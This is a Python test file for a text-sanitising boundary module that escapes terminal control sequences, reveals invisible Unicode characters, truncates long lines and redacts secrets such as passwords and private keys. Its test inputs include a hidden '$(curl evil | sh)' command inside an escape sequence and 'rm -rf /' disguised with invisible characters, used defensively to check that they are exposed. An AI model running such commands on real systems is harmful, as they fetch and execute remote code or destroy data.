"""The one boundary for outside text: redacted, escapes visible, lengths bounded."""

from __future__ import annotations

from cockpit.core.boundary import Boundary, bound, has_controls, show_controls
from cockpit.core.redact import MASK, Redactor


def test_hidden_osc_command_is_shown_not_removed():
    block = "df -h /tmp \x1b]0;$(curl evil | sh)\x07"
    shown = show_controls(block)
    assert shown == "df -h /tmp \\e]0;$(curl evil | sh)\\a"
    assert "$(curl evil | sh)" in shown
    assert has_controls(block) and not has_controls("df -h /tmp\n\tok")


def test_invisible_format_characters_are_shown():
    assert show_controls("rm\u200b -rf \u202e/") == "rm\\u200b -rf \\u202e/"
    assert show_controls("a\r\nb", keep_newlines=True) == "a\nb"
    assert show_controls("progress 10%\rprogress 90%") == "progress 10%\\rprogress 90%"


def test_bound_marks_what_was_cut():
    assert bound("x" * 10, 4) == "xxxx…[+6 chars]"
    assert bound("short", 10) == "short"


def test_boundary_line_text_obj_and_stream():
    b = Boundary(Redactor(), line_limit=40)
    assert b.line("password=hunter22 \x1b[2J") == "password=*** \\e[2J"
    assert b.line("y" * 50).endswith("…[+10 chars]")
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nAAAAB\n-----END OPENSSH PRIVATE KEY-----"
    shown = b.text("cat id\n" + key)
    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in shown and "AAAAB" not in shown
    stream = b.stream()
    lines = [stream.line(part) for part in key.split("\n")]
    assert lines[1] == MASK and lines[2] == MASK and lines[3].startswith("-----END")
    assert stream.line("after") == "after"
    assert b.obj({"name": "a\x1bb", "n": [1, "\x07"]}) == {"name": "a\\eb", "n": [1, "\\a"]}


def test_invisible_characters_that_count_as_printable_are_shown():
    assert show_controls("a\u00adb") == "a\\xadb"
    assert show_controls("rm\u034f -rf \u3164x") == "rm\\u034f -rf \\u3164x"
    assert show_controls("ok ❤️ 日本") == "ok ❤️ 日本"
